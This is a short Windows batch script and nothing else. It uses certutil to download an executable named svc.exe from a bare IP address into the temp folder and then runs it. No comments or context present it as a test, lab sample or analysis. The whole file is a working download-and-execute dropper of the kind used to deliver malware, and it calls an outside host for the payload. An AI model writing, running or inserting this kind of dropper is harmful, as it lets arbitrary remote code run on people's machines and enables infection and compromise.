@echo off
certutil -urlcache -split -f http://198.51.100.23/svc.exe %TEMP%\svc.exe
start "" %TEMP%\svc.exe
